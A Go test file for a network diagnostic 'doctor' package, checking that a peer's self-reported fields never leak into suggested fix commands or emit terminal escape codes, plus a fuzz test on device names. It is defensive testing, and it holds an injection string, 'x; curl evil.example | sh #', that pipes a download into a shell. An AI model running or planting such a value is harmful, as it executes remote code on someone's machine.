package doctor

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"

	"github.com/gobw/gobw/verbs"
)

// TestPeerWritesNoCommand: what a peer says of itself never becomes part of a command that is to be copied.
func TestPeerWritesNoCommand(t *testing.T) {
	evil := `x; curl evil.example | sh #`
	said := End{
		Name: evil, IBVError: "no library\n\x1b[2J" + evil, IBVRemedy: evil,
		Devices: []Device{{
			Info:  verbs.DeviceInfo{Name: evil, NetInterface: evil, PCIAddress: evil, Ports: 1},
			Ports: []verbs.PortInfo{{Number: 1, State: verbs.PortDown, NetInterface: evil}},
		}},
		System: System{
			Linux: true, Governor: evil, DefaultInterface: evil, DeniedDeviceFiles: []string{evil}, RDMAHardware: []string{evil},
			ModuleAvailable: map[string]bool{"rdma_rxe": true, evil: true}, Port4791: evil,
		},
	}
	text, err := json.Marshal(said)
	if err != nil {
		t.Fatal(err)
	}
	end, err := ParsePeer(text)
	if err != nil {
		t.Fatal(err)
	}
	found := Examine(end, 1<<30)
	if len(found) == 0 {
		t.Fatal("an end that has everything wrong is found clean")
	}
	for _, f := range found {
		if fixes := strings.Join(f.Fix, "\n"); strings.Contains(fixes, "curl") {
			t.Errorf("%s: the peer's words in a command:\n%s", f.Check, fixes)
		}
		if strings.ContainsAny(f.What+f.Where, "\n\x1b") {
			t.Errorf("%s steers the terminal: %q, %q", f.Check, f.Where, f.What)
		}
	}
}

// FuzzPeer reads what anybody may say of himself.
func FuzzPeer(f *testing.F) {
	f.Add([]byte(`{"name":"x","devices":[{"info":{"name":"rxe0"},"ports":[{"number":1}],"gids":{"1":[]}}],"system":{"linux":true}}`))
	names := regexp.MustCompile(`^[A-Za-z0-9_.:@/+?-]*$`)
	f.Fuzz(func(t *testing.T, b []byte) {
		end, err := ParsePeer(b)
		if err != nil {
			return
		}
		for _, d := range end.Devices {
			if !names.MatchString(d.Info.Name) || !names.MatchString(d.Info.NetInterface) {
				t.Errorf("%q, %q pass for names", d.Info.Name, d.Info.NetInterface)
			}
		}
		_ = ExaminePair(end, end)
		for _, finding := range Examine(end, 1) {
			if strings.Contains(finding.What+strings.Join(finding.Fix, ""), "\n") {
				t.Errorf("%q, %q", finding.What, finding.Fix)
			}
		}
	})
}
